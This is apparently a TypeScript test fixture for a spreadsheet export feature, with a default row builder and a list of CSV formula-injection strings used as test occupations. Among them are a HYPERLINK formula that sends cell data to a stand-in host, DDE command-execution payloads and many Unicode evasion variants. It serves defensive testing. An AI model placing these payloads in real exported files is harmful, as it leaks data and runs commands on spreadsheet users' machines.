import type { ExportRow } from '../../src/exports/write-export.ts'

export function exportRow(row: Partial<ExportRow>): ExportRow {
  return {
    number: 1,
    state: 'confirmed',
    kind: 'person',
    name: 'Ada Lovelace',
    occupation: null,
    organisation: null,
    listed: true,
    hidden: false,
    featured: null,
    approved: true,
    channel: 'email',
    confirmedBy: 'page',
    language: 'en',
    confirmedAt: '2026-11-01T10:00:00.123Z',
    provedDomain: null,
    checkedDomain: null,
    statementHash: 'ab'.repeat(32),
    numberOnly: false,
    evidence: 'press',
    ...row,
  }
}

export async function* inTurn(rows: Iterable<ExportRow>): AsyncGenerator<ExportRow> {
  yield* rows
}

/** Texts that a spreadsheet must show and never run. In the tests, each is somebody's occupation. */
export const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '−1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  "'=1+1",
  '“=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  'Ada\n=1+1',
  'Ada\u2028=1+1',
  'Ada\u2029=1+1',
  'Ada;=1+1;',
  'Ada,=1+1,',
  'Ada;"=1+1"',
  'Ada; \t=1+1',
  '";=1+1;"',
] as const
